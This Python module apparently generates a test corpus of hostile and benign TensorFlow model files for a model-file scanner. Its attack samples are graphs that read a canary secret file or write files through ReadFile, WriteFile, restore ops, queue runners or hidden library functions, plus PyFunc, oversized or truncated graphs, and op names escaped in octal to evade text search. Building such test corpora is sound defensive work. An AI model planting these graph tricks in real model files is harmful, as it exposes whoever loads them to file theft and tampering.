"""Frozen graphs, MetaGraphs and text forms of both and of SavedModels, hostile and benign."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import tensorflow as tf
from google.protobuf import text_format
from tensorflow.core.protobuf import meta_graph_pb2, saved_model_pb2

from .build import Func, X, const, definition, dense, graph_of, node, raw, scratch, splat, v1
from .file_writes import _after
from .registry import Place, attack, benign, fires


def _graph(nodes, functions=()):
    graph = tf.compat.v1.GraphDef()
    graph.versions.producer = 2500
    graph.node.extend([X, *nodes])
    graph.library.function.extend(functions)
    return graph


def _binary(place: Place, graph):
    place.path.write_bytes(graph.SerializeToString(deterministic=True))


def _text(path: Path, message):
    path.write_text(text_format.MessageToString(message))


RUN = fires("import-graph", "reads", fetch="y:0")


@attack("gd-read-file", "graphdef", "file-read", "ReadFile", "secret.txt", suffix=".pb", fires=RUN)
def _(place: Place):
    """A frozen graph with ReadFile. Both peers read it as an empty SavedModel and say clean (reference 1.3)."""
    _binary(place, _graph([const("p", f"{place.canary}/secret.txt"), node("y", "ReadFile", ["p"])]))


@attack(
    "gd-read-file-no-extension",
    "graphdef",
    "file-read",
    "ReadFile",
    "secret.txt",
    suffix=".bin",
    fires=RUN,
)
def _(place: Place):
    """The same under an extension that says nothing."""
    _binary(place, _graph([const("p", f"{place.canary}/secret.txt"), node("y", "ReadFile", ["p"])]))


@attack(
    "gd-text-write",
    "graphdef",
    "file-write",
    "WriteFile",
    "gd-text-write",
    suffix=".pbtxt",
    fires=fires("import-graph-text", "writes", "out/gd-text-write", fetch="y:0"),
)
def _(place: Place):
    """A graph in text form that writes."""
    nodes = [
        const("p", f"{place.canary}/out/gd-text-write"),
        const("c", "owned"),
        node("w", "WriteFile", ["p", "c"]),
        node("y", "Identity", ["c", "^w"], T=tf.string),
    ]
    _text(place.path, _graph(nodes))


@attack("gd-immutable", "graphdef", "file-read", "ImmutableConst", "secret.txt", suffix=".pb")
def _(place: Place):
    """A file mapped as a constant, as memory-mapped graphs on phones have it, but of the machine."""
    memory = node(
        "y",
        "ImmutableConst",
        dtype=tf.uint8,
        shape=tf.TensorShape([21]),
        memory_region_name=f"{place.canary}/secret.txt",
    )
    _binary(place, _graph([memory]))


@attack(
    "gd-function-write",
    "graphdef",
    "file-write",
    "WriteFile",
    "gd-function-write",
    suffix=".pb",
    fires=fires("import-graph", "writes", "out/gd-function-write", fetch="y:0"),
)
def _(place: Place):
    """A frozen graph whose library function writes; the main graph has a call only."""

    def effect(x):
        return _after(tf.io.write_file(f"{place.canary}/out/gd-function-write", "owned"), x)

    function = definition(effect, tf.TensorSpec([], tf.float32), name="post_process")
    call = node(
        "y",
        "StatefulPartitionedCall",
        ["one"],
        Tin=[tf.float32],
        Tout=[tf.float32],
        f=Func("post_process"),
    )
    _binary(place, _graph([const("one", 1.0), call], function))


@attack("gd-splat", "graphdef", "memory", ["Const", "big"], None, also=["malformed"], suffix=".pb")
def _(place: Place):
    """A frozen graph with a constant of 160 GB."""
    _binary(
        place, _graph([splat("big", [200000, 200000]), node("y", "Neg", ["big"], T=tf.float32)])
    )


@attack(
    "gd-overflow",
    "graphdef",
    "malformed",
    ["Const", "big"],
    None,
    also=["memory", "crash"],
    trigger="load",
    suffix=".pb",
    fires=None,
)
def _(place: Place):
    """A frozen graph with a constant whose shape overflows."""
    _binary(
        place, _graph([splat("big", [2**40, 2**40]), node("y", "Identity", ["x"], T=tf.float32)])
    )


@attack("gd-py-func", "graphdef", "code-execution", "PyFunc", None, suffix=".pb")
def _(place: Place):
    """A frozen graph with PyFunc."""
    _binary(
        place,
        _graph([node("y", "PyFunc", ["x"], token="pyfunc_0", Tin=[tf.float32], Tout=[tf.float32])]),
    )


@attack(
    "gd-truncated",
    "graphdef",
    "malformed",
    ["truncat", "graph", "ends", "pars", "unreadable"],
    None,
    also=["unreadable"],
    trigger="load",
    suffix=".pb",
)
def _(place: Place):
    """A frozen graph that ends in the middle of a node."""
    data = _graph(
        [const("w", np.ones([64, 64], np.float32)), node("y", "MatMul", ["x", "w"], T=tf.float32)]
    ).SerializeToString()
    place.path.write_bytes(data[:-9000])


def _meta(place: Place, build):
    with tf.Graph().as_default(), v1.Session() as session:
        build()
        session.run(v1.global_variables_initializer())
        prefix = scratch(place.path)
        prefix.mkdir(parents=True)
        v1.train.Saver().save(session, str(prefix / "m"))
        place.path.write_bytes((prefix / "m.meta").read_bytes())


@attack(
    "mg-read-file",
    "metagraph",
    "file-read",
    "ReadFile",
    "secret.txt",
    suffix=".meta",
    trigger="api",
    fires=fires("import-meta", "reads", fetch="leak:0"),
)
def _(place: Place):
    """A MetaGraph with ReadFile beside the model."""

    def build():
        x = v1.placeholder(tf.float32, [None, 4], "x")
        tf.identity(tf.matmul(x, v1.get_variable("w", [4, 2])), "y")
        tf.identity(raw.ReadFile(filename=f"{place.canary}/secret.txt"), "leak")
        v1.add_to_collection("outputs", v1.get_default_graph().get_tensor_by_name("leak:0"))

    _meta(place, build)


@attack(
    "mg-restore-write",
    "metagraph",
    "file-write",
    "WriteFile",
    "mg-restore-write",
    suffix=".meta",
    trigger="saver",
    also=["code-execution"],
)
def _(place: Place):
    """A MetaGraph whose restore operation writes a file."""

    def build():
        w = v1.get_variable("w", [4, 2])
        tf.identity(w, "y")

    _meta(place, build)
    meta = meta_graph_pb2.MetaGraphDef.FromString(place.path.read_bytes())
    meta.graph_def.node.extend(
        [
            const("evil/p", f"{place.canary}/out/mg-restore-write"),
            const("evil/c", "owned"),
            node("evil/w", "WriteFile", ["evil/p", "evil/c"]),
        ]
    )
    next(n for n in meta.graph_def.node if n.name == meta.saver_def.restore_op_name).input.append(
        "^evil/w"
    )
    place.path.write_bytes(meta.SerializeToString())


@attack(
    "mg-queue-runner",
    "metagraph",
    "file-read",
    ["WholeFileReader", "ReaderRead", "MatchingFiles"],
    "secret",
    suffix=".meta",
)
def _(place: Place):
    """A MetaGraph whose queue runner reads a file."""

    def build():
        names = v1.train.string_input_producer([f"{place.canary}/secret.txt"])
        value = v1.WholeFileReader().read(names)[1]
        v1.get_variable("w", [4, 2])
        v1.add_to_collection("train_op", tf.identity(value, "y"))

    _meta(place, build)


def _as_text(place: Place, make):
    folder = scratch(place.path)
    make(folder)
    model = saved_model_pb2.SavedModel.FromString((folder / "saved_model.pb").read_bytes())
    place.path.mkdir(parents=True)
    _text(place.path / "saved_model.pbtxt", model)
    if (folder / "variables").exists():
        (folder / "variables").rename(place.path / "variables")


@attack(
    "sm-text-read",
    "savedmodel",
    "file-read",
    "ReadFile",
    "secret.txt",
    fires=fires("call", "reads"),
)
def _(place: Place):
    """saved_model.pbtxt, which peers do not open."""
    _as_text(
        place,
        lambda f: dense(f, lambda x, y: {"leak": tf.io.read_file(f"{place.canary}/secret.txt")}),
    )


@attack(
    "sm-text-escaped",
    "savedmodel",
    "file-write",
    "WriteFile",
    "sm-text-escaped",
    fires=fires("call", "writes", "out/sm-text-escaped"),
)
def _(place: Place):
    """The same with the names of operations escaped in octal, so that a search for text finds nothing."""
    _as_text(
        place,
        lambda f: dense(
            f,
            lambda x, y: {
                "z": _after(tf.io.write_file(f"{place.canary}/out/sm-text-escaped", "owned"), y)
            },
        ),
    )
    file = place.path / "saved_model.pbtxt"
    octal = "".join(f"\\{ord(letter):03o}" for letter in "WriteFile")
    file.write_text(file.read_text().replace('op: "WriteFile"', f'op: "{octal}"'))


@attack(
    "sm-text-truncated",
    "savedmodel",
    "malformed",
    ["saved_model.pbtxt"],
    None,
    also=["unreadable"],
    trigger="load",
)
def _(place: Place):
    """saved_model.pbtxt that ends in a string."""
    _as_text(place, lambda f: dense(f))
    file = place.path / "saved_model.pbtxt"
    file.write_text(file.read_text()[:3000] + '"')


@benign("b-sm-text", "savedmodel")
def _(place: Place):
    """A SavedModel in text form."""
    _as_text(place, lambda f: dense(f))


@benign("b-gd-dense", "graphdef", ".pb")
def _(place: Place):
    """A frozen dense network."""
    nodes = [
        const("w", np.linspace(0, 1, 8, dtype=np.float32).reshape(4, 2)),
        node("y", "MatMul", ["x", "w"], T=tf.float32),
    ]
    _binary(place, _graph(nodes))


@benign("b-gd-text", "graphdef", ".pbtxt")
def _(place: Place):
    """The same as text."""
    nodes = [
        const("w", np.linspace(0, 1, 8, dtype=np.float32).reshape(4, 2)),
        node("y", "MatMul", ["x", "w"], T=tf.float32),
    ]
    _text(place.path, _graph(nodes))


@benign("b-gd-image", "graphdef", ".pb")
def _(place: Place):
    """A frozen image network as of TF1: decode, resize, convolutions, softmax."""

    def build():
        data = v1.placeholder(tf.string, [], "image_bytes")
        image = tf.cast(tf.io.decode_jpeg(data, channels=3), tf.float32)
        image = v1.image.resize_bilinear(tf.expand_dims(image, 0), [64, 64]) / 255.0
        random = np.random.default_rng(1)
        for channels in ((3, 8), (8, 16)):
            image = tf.nn.relu(
                tf.nn.conv2d(
                    image, random.normal(size=[3, 3, *channels]).astype(np.float32) * 0.1, 2, "SAME"
                )
            )
        tf.nn.softmax(tf.reduce_mean(image, [1, 2]), name="probabilities")

    _binary(place, graph_of(build))


@benign("b-gd-function", "graphdef", ".pb")
def _(place: Place):
    """A frozen graph from convert_variables_to_constants_v2, with a loop."""
    from tensorflow.python.framework.convert_to_constants import convert_variables_to_constants_v2

    kernel = tf.Variable(np.eye(4, dtype=np.float32))

    def serve(x):
        return tf.while_loop(
            lambda i, v: i < 5, lambda i, v: (i + 1, tf.nn.relu(v @ kernel)), [0, x]
        )[1]

    concrete = tf.function(serve).get_concrete_function(tf.TensorSpec([1, 4], tf.float32))
    frozen = convert_variables_to_constants_v2(concrete, lower_control_flow=False)
    _binary(place, frozen.graph.as_graph_def())


@benign("b-mg-train", "metagraph", ".meta")
def _(place: Place):
    """A MetaGraph of a TF1 training with an optimizer, summaries and a saver."""

    def build():
        x = v1.placeholder(tf.float32, [None, 4], "x")
        y = tf.matmul(x, v1.get_variable("w", [4, 2])) + v1.get_variable("b", [2])
        loss = tf.reduce_mean(tf.square(y))
        v1.summary.scalar("loss", loss)
        v1.summary.merge_all()
        v1.train.AdamOptimizer(0.1).minimize(loss, global_step=v1.train.get_or_create_global_step())

    _meta(place, build)


@benign("b-mg-inputs", "metagraph", ".meta")
def _(place: Place):
    """A MetaGraph with a queue of batches, as TF1 programs fed themselves from memory."""

    def build():
        x = v1.placeholder(tf.float32, [None, 4], "x")
        tf.identity(tf.nn.softmax(tf.matmul(x, v1.get_variable("w", [4, 3]))), "p")
        v1.nn.dropout(x, rate=0.5)

    _meta(place, build)
